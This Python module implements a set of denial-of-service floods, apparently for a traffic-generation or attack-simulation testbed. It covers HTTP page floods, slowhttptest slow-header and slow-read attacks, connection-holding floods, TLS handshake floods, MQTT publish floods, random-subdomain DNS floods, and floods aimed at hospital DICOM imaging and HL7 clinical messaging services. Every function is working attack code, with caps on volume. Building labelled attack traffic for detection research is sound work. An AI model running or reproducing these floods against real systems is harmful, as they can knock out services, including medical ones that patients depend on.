"""Too much of something: requests, held connections, handshakes, messages, questions; each bounded."""

from __future__ import annotations

import contextlib
import http.client
import os
import socket
import ssl
import threading
from typing import TYPE_CHECKING

from .bounds import MAX_PACKETS, spread, tool
from .context import question
from .plan import TLS_PORTS, ZONE

if TYPE_CHECKING:
    from .context import Context


def page_flood(
    ctx: Context,
    targets: list[str],
    port: int = 80,
    count: int = 3000,
    rate: float = 100,
    threads: int = 16,
    per_connection: int = 1,
    method: str = "GET",
    path: str = "/app/",
    body: int = 0,
    seconds: float = 60,
) -> None:
    """Requests for pages that differ by a number, some on each connection; TLS on 443."""
    quiet = ssl._create_unverified_context()

    def one(target: str) -> None:
        made = (http.client.HTTPSConnection(target, port, timeout=5, context=quiet) if port in TLS_PORTS
                else http.client.HTTPConnection(target, port, timeout=5))  # fmt: skip
        with contextlib.closing(made), contextlib.suppress(http.client.HTTPException):
            for _ in range(per_connection):
                made.request(method, f"{path}{ctx.rng.randrange(10**5)}", os.urandom(body) if body else None)
                made.getresponse().read()

    turns = (targets[n % len(targets)] for n in range(min(count, MAX_PACKETS)))
    jobs = (lambda t=t: one(t) for t in turns)
    spread(ctx, jobs, rate, threads, seconds)


def slow_http(
    ctx: Context,
    targets: list[str],
    mode: str = "H",
    connections: int = 300,
    rate: int = 30,
    interval: int = 8,
    seconds: int = 60,
    port: int = 80,
) -> None:
    """slowhttptest: headers (H) or bodies (B) that never end, answers (X) that are read byte by byte."""
    scheme = "https" if port in TLS_PORTS else "http"
    window = ["-w", "10", "-y", "60", "-n", "4", "-z", "8", "-k", "2"] if mode == "X" else []
    for target in targets:
        tool(ctx, ["slowhttptest", f"-{mode}", "-c", str(min(connections, 2000)), "-r", str(rate), "-i", str(interval),
                   "-l", str(seconds), *window, "-p", "3", "-u", f"{scheme}://{target}:{port}/app/1"],
             seconds + 10)  # fmt: skip


def hold_flood(
    ctx: Context,
    targets: list[str],
    port: int,
    count: int = 600,
    rate: float = 40,
    hold: float = 30,
    seconds: float = 70,
) -> None:
    """Connections opened and kept without a word, until a server has no room left."""
    kept: list[socket.socket] = []

    def one() -> None:
        if s := ctx.connect(targets[0], port, 3):
            kept.append(s)
            threading.Timer(hold, s.close).start()

    spread(ctx, (one for _ in range(min(count, 2000))), rate, 8, seconds)
    ctx.pause(hold, 0)
    for s in kept:
        s.close()


def tls_flood(
    ctx: Context, targets: list[str], port: int = 443, count: int = 1500, rate: float = 40, threads: int = 8,
    seconds: float = 60,
) -> None:  # fmt: skip
    """TLS handshakes, the dear part for the server, and nothing after them."""
    quiet = ssl._create_unverified_context()

    def one() -> None:
        if s := ctx.connect(targets[0], port, 3):
            with s, contextlib.suppress(ssl.SSLError):
                quiet.wrap_socket(s).close()

    spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, threads, seconds)


def publish_flood(
    ctx: Context,
    targets: list[str],
    count: int = 1000,
    rate: float = 40,
    threads: int = 8,
    per_connection: int = 20,
    size: int = 200,
    port: int = 1883,
    login: bool = True,
    seconds: float = 60,
) -> None:
    """MQTT publishing far too fast over many short connections; without `login` the broker turns each away."""
    from .mqtt_wire import connect, leave, publish

    def one() -> None:
        with connect(ctx, targets[0], port, login) as s:
            for n in range(per_connection):
                publish(s, f"ward/load/{n % 7}", os.urandom(size))
            leave(s)

    spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, threads, seconds)


def dicom_flood(
    ctx: Context,
    targets: list[str],
    count: int = 1500,
    rate: float = 50,
    threads: int = 8,
    port: int = 104,
    answer: bool = True,
    seconds: float = 60,
) -> None:
    """DICOM associations asked for and dropped, after the answer or without waiting for it."""

    from .dicom_wire import ABORT, request

    asked = request("STMPACS", "LOAD")

    def one() -> None:
        if s := ctx.connect(targets[0], port, 3):
            with s:
                s.settimeout(3)
                s.sendall(asked)
                if answer:
                    s.recv(500)
                    s.sendall(ABORT)

    spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, threads, seconds)


def hl7_flood(
    ctx: Context,
    targets: list[str],
    count: int = 1500,
    rate: float = 50,
    threads: int = 8,
    messages: int = 1,
    lines: int = 4,
    port: int = 2575,
    seconds: float = 60,
) -> None:
    """HL7 messages over MLLP, a new connection for every few of them."""

    def one() -> None:
        if s := ctx.connect(targets[0], port, 3):
            with s:
                s.settimeout(3)
                for n in range(messages):
                    head = f"MSH|^~\\&|LOAD|STM|RIS|STM|20260101||ORU^R01|L{n}|P|2.5"
                    body = [f"OBX|{i}|NM|{ctx.rng.randrange(9999)}^TEST||{n}|u|||||F" for i in range(lines)]
                    s.sendall(b"\x0b" + "\r".join([head, *body]).encode() + b"\r\x1c\r")
                    s.recv(2000)

    spread(ctx, (one for _ in range(min(count, MAX_PACKETS))), rate, threads, seconds)


def dns_flood(
    ctx: Context,
    targets: list[str],
    count: int = 4000,
    rate: float = 150,
    zone: str = ZONE,
    kind: int = 1,
    per_port: int = 1,
    seconds: float = 60,
) -> None:
    """Questions for names nobody has, faster than any host asks, some from each port; answers are not awaited long."""

    def one() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.4)
            for _ in range(per_port):
                s.sendto(question(f"{ctx.rng.randrange(16**10):x}.{zone}", kind, ctx.rng), (targets[0], 53))
            s.recv(600)

    spread(ctx, (one for _ in range(min(count, MAX_PACKETS) // per_port)), rate / per_port, 4, seconds)
